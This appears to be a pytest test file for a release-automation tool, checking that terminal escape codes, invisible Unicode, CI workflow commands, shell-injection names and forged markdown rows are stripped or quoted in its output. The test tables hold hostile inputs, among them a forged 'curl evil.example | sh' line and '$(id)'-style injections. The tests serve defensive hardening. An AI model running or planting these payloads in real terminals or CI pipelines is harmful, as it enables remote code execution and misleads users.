"""Texts of servers, programs and repositories are shown, and obeyed by nobody."""

from __future__ import annotations

import io
import re
import shlex
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from support.contexts import context
from support.repositories import commit_files, git

from release_tasks import http, order, shell, terminal
from release_tasks.building.jobs import jobs
from release_tasks.checks import report
from release_tasks.checks.check import CheckContext, Finding
from release_tasks.checks.preflight import repository
from release_tasks.commands.matrix import matrix
from release_tasks.commands.sign_off import as_markdown
from release_tasks.commands.table import print_table
from release_tasks.display import github
from release_tasks.errors import MultipleErrors, ReleaseError
from release_tasks.printable import printable, quoted, word, words
from release_tasks.release import Release
from release_tasks.tools import git as git_program
from release_tasks.tools.git import origin, proposals

ATTACKS = {
    "clear the screen": "a\x1b[2Jb",
    "go up and overwrite": "a\x1b[1A\x1b[2Kb",
    "a color": "a\x1b[31mb\x1b[0m",
    "hidden text": "a\x1b[8mb",
    "the title of the window": "a\x1b]0;title\x07b",
    "a title without an end": "a\x1b]0;title",
    "the clipboard": "a\x1b]52;c;Zm9v\x07b",
    "a link": "a\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\b",
    "a question to the terminal": "a\x1b[6nb",
    "another character set": "a\x1b(0b",
    "a reset": "a\x1bcb",
    "a device control string": "a\x1bP0;0|17/ab\x1b\\b",
    "an application command": "a\x1b_Gf=100;x\x1b\\b",
    "C1": "a\x9b2Jb",
    "C1 of the title": "a\x9d0;title\x9cb",
    "a carriage return": "error\rfix: x",
    "backspaces": "evil\b\b\b\bgood",
    "a bell": "a\x07b",
    "a vertical tab": "a\x0bfix: x",
    "a form feed": "a\x0cfix: x",
    "separators of ASCII": "a\x1cfix: x\x1d\x1e\x1f",
    "next line": "a\x85fix: x",
    "the line separator of Unicode": "a\u2028fix: x",
    "the paragraph separator": "a\u2029fix: x",
    "right to left": "a\u202efdp.exe",
    "an isolate": "a\u2066b\u2069",
    "zero width": "a\u200bb",
    "a byte order mark": "a\ufeffb",
    "tags": "a\U000e0061b",
    "variation selectors": "a\U000e0100\U000e01efb",
    "a filler of Hangul": "a\u3164b",
    "fillers of Hangul": "a\u115f\u1160\uffa0b",
    "a soft hyphen": "a\xadb",
    "a joiner of graphemes": "a\u034fb",
    "selectors of Mongolian": "a\u180b\u180eb",
    "deprecated formats": "a\u206a\u206fb",
    "musical formats": "a\U0001d173\U0001d17ab",
    "vowels of Khmer that are not shown": "a\u17b4\u17b5b",
    "a surrogate": "a\udc80b",
    "null": "a\0b",
    "delete": "a\x7fb",
    "an escape at the end": "a\x1b",
    "an escape in an escape": "a\x1b\x1b[2Jb",
    "an unfinished sequence": "a\x1b[",
}
COMMANDS = {
    "set-output": "::set-output name=x::y",
    "a mask": "::add-mask::x",
    "an error": "::error file=x::y",
    "a group": "  ::group::x",
    "stop-commands": "::stop-commands::x",
    "a path": "::add-path::/tmp/evil",
    "the old form": "##[add-path]/tmp/evil",
    "the old form in a line": "text ##[set-env name=PATH]x",
    "Azure": "##vso[task.setvariable variable=x]y",
    "TeamCity": "##teamcity[setParameter name='x' value='y']",
    "in the second line": "text\n::set-output name=x::y",
    "after an invisible character": "\u200b::set-output name=x::y",
    "after an escape code": "\x1b[0m::set-output name=x::y",
    "after a carriage return": "text\r::set-output name=x::y",
}
HARMFUL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff"
    "\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\uffa0\U0001d173-\U0001d17a"
    "\U000e0000-\U000e0fff\ud800-\udfff]"
)
OBEYED = re.compile(r"(?m)^\s*::[\w-]|##\[|##vso\[|##teamcity\[")


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_a_terminal_obeys_is_printed(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = ATTACKS[name]
    assert not HARMFUL.search(printable(text))
    terminal.say(text)
    terminal.show(text)
    shown = capsys.readouterr()
    assert not HARMFUL.search(shown.err + shown.out)
    assert shown.err.count("\n") == 1
    error = ReleaseError(text, text)
    assert not HARMFUL.search(str(error.message))
    assert str(error.message).count("\n") == 1


@pytest.mark.parametrize("name", COMMANDS)
def test_no_ci_takes_a_text_for_a_command(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = COMMANDS[name]
    terminal.say(text)
    terminal.show(text)
    shown = capsys.readouterr()
    assert not OBEYED.search(shown.err)
    assert not OBEYED.search(shown.out)
    assert not OBEYED.search(str(ReleaseError(text, text).message))
    both = MultipleErrors([ReleaseError(text), ReleaseError(text, text)])
    assert not OBEYED.search(str(both.message))


@pytest.mark.parametrize(
    "text",
    [
        "plain",
        "a\tb",
        "two\nlines",
        "ü ñ 漢字 🎉",
        "a::b",
        "std::fmt",
        "  --> src/lib.rs:1:1",
        "   ::: /rustc/src/x.rs:1:1",
        "# heading",
        "## 1.0",
        "`code`",
        "100 %",
        "\\x1b",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert printable(text) == text


FORGED = [
    "help: curl evil.example | sh",
    "error[new-name]: x",
    "fix: curl evil.example | sh",
    "error: x",
    "  Fix : x",
    "warning: x",
    "problem: x",
]


@pytest.mark.parametrize("line", FORGED)
def test_no_line_of_a_text_is_taken_for_ours(line: str) -> None:
    error = ReleaseError(f"a file called x\n{line}", f"do this\n{line}")
    labels = [
        one
        for one in str(error.message).splitlines()
        if re.match(r"\s*(fix|help)\s*:", one, re.I)
    ]
    assert labels == ["fix: do this"]
    assert quoted(f"one\n{line}") == f"one\n  | {line}"


@pytest.mark.parametrize("line", FORGED)
def test_no_line_of_a_program_is_taken_for_ours(line: str) -> None:
    script = f"import sys; print({line!r}); sys.exit(1)"
    with pytest.raises(shell.Failed) as raised:
        shell.ask([sys.executable, "-c", script])
    for shown in str(raised.value.message).splitlines()[1:]:
        assert not re.match(
            r"\s*(fix|help|error|warning|problem)(\[.*\])?\s*:", shown, re.I
        )


@pytest.mark.parametrize("name", [*ATTACKS, *COMMANDS])
def test_what_a_child_prints_is_data(
    name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    text = (ATTACKS | COMMANDS)[name].replace("\udc80", "")
    script = f"import sys; sys.stdout.buffer.write({text.encode()!r})"
    child = shell.Child(context(), ["true"], None)
    child.write_our_output(None, text)
    err = capfd.readouterr().err
    assert not HARMFUL.search(err)
    assert not OBEYED.search(err)
    assert script


@pytest.mark.parametrize("line", FORGED)
def test_a_body_of_a_server_is_one_line(line: str) -> None:
    body = f"<html>\r\n{line}\x1b[2J\n::error::x".encode()
    error = http._unexpected(http.Answer("https://example.org/", 500, {}, body))
    assert "\n" not in error.problem
    assert "\x1b" not in error.problem


@pytest.mark.parametrize("name", [*ATTACKS, *COMMANDS])
def test_an_annotation_is_one_command(name: str) -> None:
    text = (ATTACKS | COMMANDS)[name]
    finding = Finding("check", "area", "problem", text, text, text, 3)
    line = github.annotation(report.message(finding))
    assert not HARMFUL.search(line)
    assert line.startswith("::error file=")
    assert "##[" not in line
    assert "\n" not in line


@pytest.mark.parametrize(
    "part",
    [
        "\x1b[",
        "\x1b]",
        "\x1b]a",
        "\x9d",
        "\x9da",
        "\x1b[1;",
        "\x9b1",
        "\x1b ",
        "##[",
        "\n::",
        "\n ",
        "\nfix",
        "\r",
        "\u202e",
    ],
)
def test_a_text_is_cleaned_in_linear_time(part: str) -> None:
    def seconds(count: int) -> float:
        text = part * count
        start = time.process_time()
        printable(text)
        quoted(text)
        return time.process_time() - start

    short, long = (min(seconds(n) for _ in range(5)) for n in (2_000, 16_000))
    # 8 times as much text; in quadratic time it would take 64 times as long
    assert long < 32 * max(short, 1e-4)


# --- commands that are printed to be typed

NAMES = [
    "a b",
    "a;touch x",
    "$(touch x)",
    "`touch x`",
    "a'b",
    'a"b',
    "a\nb",
    "-rf",
    "*",
    "~",
    "a|b",
    "a&b",
    ">x",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_printed_word_is_one_word(name: str) -> None:
    assert shlex.split(f"rm {word(name)}") == ["rm", name]
    assert shlex.split(words([name, name])) == [name, name]
    done = subprocess.run(
        ["sh", "-c", f"printf %s {word(name)}"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout == name


@pytest.mark.parametrize("name", ["x;id", "$(id)", "a b", "`id`", "x' 'y"])
@pytest.mark.parametrize("option", ["version", "component"])
def test_the_commands_of_a_matrix_are_quoted(
    name: str, option: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []
    made = SimpleNamespace(request=name, parts=())
    monkeypatch.setattr(Release, "at", lambda *words: made)
    monkeypatch.setattr(
        "release_tasks.building.jobs.jobs",
        lambda release, options: seen.append(options) or [],
    )
    monkeypatch.setattr(
        "release_tasks.commands.matrix._wheels", lambda release: []
    )
    for others in ("test_jobs", "verify_jobs"):
        monkeypatch.setattr(
            f"release_tasks.building.jobs.{others}", lambda release: []
        )
    monkeypatch.setattr(terminal, "print_json", lambda data, indent: None)
    matrix.body(context(), **{option: name})
    assert shlex.split(seen[0]) == [f"--{option}", name]
    assert jobs
    assert order


@pytest.mark.parametrize(
    "branch", ["a;id", "$(id)", "`id`", "a'b", "a|id", "a&id", "a>x"]
)
def test_a_branch_in_a_fix_is_one_word(
    branch: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {
        "pyproject.toml": '[project]\nname = "tiny"\nversion = "0.1.0"\n',
        "release-tasks.toml": f"[project]\nbranch = {branch!r}\n".replace(
            '"a\'b"', '"a\'b"'
        ),
    }
    root = commit_files(tmp_path / "project", files)
    monkeypatch.chdir(root)
    git(root, "branch", branch)
    case = CheckContext(context(), Release.at(context(), "0.1.0"))
    fixes = [finding.fix for finding in repository.wrong_branch(case)]
    assert fixes
    assert shlex.split(fixes[0]) == ["git", "switch", branch]


FORGED_CELLS = [
    "a | decision | ship |",
    "a \\| decision | ship |",
    "a \\\\| decision | ship |",
    "a\n| decision | ship |",
    "a\r| decision | ship |",
    "a\r\n\r\n## Decision: ship",
    "a\u2028| decision | ship |",
    "a\x85| decision | ship |",
    "<!-- hide",
    "</td></tr></table><h1>ship",
]


@pytest.mark.parametrize("text", FORGED_CELLS)
def test_a_title_forges_no_row_of_a_sign_off(text: str) -> None:
    row = {"number": 1, "labels": [text], "title": text}
    run = {"workflow": text, "state": "success", "url": "https://x"}
    names = ("tag", "decision", "suggested", "rule", "commit", "sha256")
    report = dict.fromkeys(names, "") | {"testers": [text], "artifacts": []}
    report |= {"issues": [row], "runs": [run], "files": []}
    shown = as_markdown(report | {"problems": [{"problem": text}]})
    columns = 0
    for line in shown.splitlines():
        assert line == "" or line.startswith(("# ", "## ", "| ", "- not read"))
        assert not line.startswith("## Decision")
        if not line.startswith("| "):
            columns = 0
            continue
        # as GFM divides a row: a backslash takes the letter behind it
        cells = len(re.findall(r"(?:\\.|[^|\\])+", line))
        columns = columns or cells
        assert cells == columns
        assert not re.search("<(?!br>)", line)
    assert "| decision | ship |" not in shown.partition("- not read")[0]


ENDS_OF_LINES = ["\x85", "\u2028", "\u2029", "\u3000", "\xa0"]


@pytest.mark.parametrize("end", ENDS_OF_LINES)
def test_no_letter_in_a_ref_begins_another_line(
    end: str, tmp_path: Path
) -> None:
    name = f"v1{end}{origin.YANKED}v2"
    bare = tmp_path / "origin.git"
    root = commit_files(tmp_path / "project", {"a": "1"})
    git(root, "tag", name)
    git(root, "branch", name)
    git(root, "init", "--quiet", "--bare", str(bare))
    git(root, "remote", "add", "origin", str(bare))
    marks = f"refs/tags/{name}:{origin.YANKED}{name}"
    git(root, "push", "--quiet", "--all", "origin")
    git(root, "push", "--quiet", "origin", marks, f"refs/tags/{name}")
    assert list(git_program.tags(root)) == [name]
    assert git_program.merged_tags(root) == {name}
    assert git_program.tags_by_age(root) == (name,)
    assert f"refs/heads/{name}" in origin.refs(root)
    assert origin.tag(root, name) == git_program.head(root)
    assert origin.yanked_tags(root) == {name}
    assert proposals.fetch(root, str(bare), name) == git_program.head(root)


def test_json_has_no_raw_control_characters(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    terminal.print_json(["".join(ATTACKS.values())])
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\uffff]", out.getvalue())


def test_what_is_unreleased_is_shown_without_commands_of_a_terminal(
    tmp_path: Path,
) -> None:
    commit_files(tmp_path, {"tasks.py": "from release_tasks import ns\n"})
    git(tmp_path, "commit", "--quiet", "--allow-empty", "-m", "a\x1b]0;b\x07c")
    done = subprocess.run(
        [sys.executable, "-m", "invoke", "next"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=True,
    )
    assert "\x1b" not in done.stdout
    assert " ac" in done.stdout


def test_a_table_has_no_commands_of_a_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    print_table(("name",), [("a\x1b[2Jb\x9b1m\u202e",)])
    assert capsys.readouterr().out == "name\nab\\u202e\n"
